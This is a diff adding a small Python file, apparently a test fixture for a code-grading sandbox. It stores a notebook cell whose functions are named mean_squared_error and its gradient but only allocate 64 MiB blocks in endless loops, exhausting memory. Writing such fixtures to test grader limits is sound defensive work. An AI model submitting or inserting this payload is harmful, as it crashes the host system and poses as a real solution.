@@ -1,0 +1,14 @@
+"""Take all the memory there is from inside of an answer, and keep it."""
+
+CELL = """\
+kept = []
+
+def mean_squared_error(prediction, target):
+    while True:
+        kept.append(bytearray(2**26))
+
+
+def mean_squared_error_gradient(prediction, target):
+    while True:
+        kept.append(bytearray(2**26))
+"""
